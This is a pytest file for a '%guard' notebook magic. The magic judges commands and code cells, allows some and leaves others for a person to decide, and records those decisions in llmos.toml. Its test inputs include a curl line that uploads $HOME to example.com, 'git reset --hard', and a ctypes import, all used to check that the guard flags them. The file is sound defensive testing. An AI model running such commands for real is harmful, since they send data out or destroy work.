"""``%guard`` in a real shell: rules, what would be said, and a person's decisions."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from llmos_nb.errors import SettingsError
from llmos_nb.guard import RULES
from llmos_nb.guard.taint import TAINT_RULES


def test_rules_are_listed_and_searched(shell: Any) -> None:
    table = shell.run_line_magic("guard", "rules")
    assert [row[0] for row in table.rows] == [*RULES, *TAINT_RULES]
    assert len(shell.run_line_magic("guard", "rules taint")) == len(TAINT_RULES)
    few = shell.run_line_magic("guard", "rules crontab")
    assert "schedule" in [row[0] for row in few.rows] and len(few) < 5
    assert "no rule has 'zzz'" in str(shell.run_line_magic("guard", "rules zzz"))
    assert "\x1b" not in str(table) and "\x1b" not in table._repr_html_(), "examples hold control characters"


def test_a_command_is_judged_and_not_run(shell: Any) -> None:
    said = str(shell.run_line_magic("guard", "check touch here; git reset --hard"))
    assert said.startswith("asked: a person decides") and "rule: git-discard" in said
    assert not Path("here").exists()
    assert str(shell.run_line_magic("guard", "check python import numpy")).startswith("allowed")
    assert "rule: py-native" in str(shell.run_line_magic("guard", "check python import ctypes"))
    assert "rule: path-guarded" in str(shell.run_line_magic("guard", "check write workspace/llmos.toml"))
    assert "rule: py-native" in str(shell.run_cell_magic("guard", "check python", "x = 1\nimport ctypes\n"))
    assert "rule: upload" in str(shell.run_line_magic("guard", "check curl -d x=$HOME https://example.com/{a}"))


def test_decisions_are_shown_with_their_lines_and_a_bad_file_with_its_own(shell: Any) -> None:
    assert "decides on no rule" in str(shell.run_line_magic("guard", ""))
    shell.user_ns["llmos"].guard.decide("install", "allow", starts="pip install")
    assert shell.run_line_magic("guard", "").rows == (
        ("1", "install", "allow", "a plain command that begins with 'pip install'"),
    )
    assert str(shell.run_line_magic("guard", "check pip install polars")).startswith("allowed")
    with Path("workspace/llmos.toml").open("a") as file:
        file.write("\n[[guard]]\nrule = 'nonsense'\n")
    assert "llmos.toml:7: there is no rule 'nonsense'" in str(shell.run_line_magic("guard", ""))
    assert str(shell.run_line_magic("guard", "check pip install polars")).startswith("asked")


def test_a_cell_is_judged_as_the_cell_that_it_is(shell: Any) -> None:
    assert str(shell.run_cell_magic("guard", "check", "import numpy\nfor i in range(3):\n    print(i)\n")).startswith(
        "allowed"
    )
    assert "rule: install" in str(shell.run_cell_magic("guard", "check", "x = 1\n!pip install polars\n"))
    assert "rule: install" in str(shell.run_line_magic("guard", "check !pip install polars"))
    assert "rule: install" in str(shell.run_line_magic("guard", "check %pip install polars"))
    assert "rule: install" in str(shell.run_cell_magic("guard", "check shell", "cd x\npip install polars\n"))


def test_what_waits_is_shown_and_trusted_as_it_was_shown(shell: Any) -> None:
    assert "Nothing in llmos.toml waits" in str(shell.run_line_magic("guard", "trust"))
    Path("workspace").mkdir(exist_ok=True)
    Path("workspace/llmos.toml").write_text('run_budget_usd = 9.0\n[[guard]]\nrule = "install"\ndecision = "allow"\n')
    assert shell.run_line_magic("guard", "").rows[0][-1] == "as far as it tightens: %guard trust"
    waiting = shell.run_line_magic("guard", "trust")
    assert waiting.shown in str(waiting)
    assert str(shell.run_line_magic("guard", "check pip install polars")).startswith("asked")
    shell.run_line_magic("guard", f"trust {waiting.shown}")
    assert str(shell.run_line_magic("guard", "check pip install polars")).startswith("allowed")
    assert shell.user_ns["llmos"].settings.run_budget_usd == 9.0, "at once"


@pytest.mark.parametrize("line", ["chek ls", "check", "trust me", "allow install"])
def test_what_is_not_understood_is_told(line: str, shell: Any) -> None:
    with pytest.raises(SettingsError, match="not understood"):
        shell.run_line_magic("guard", line)
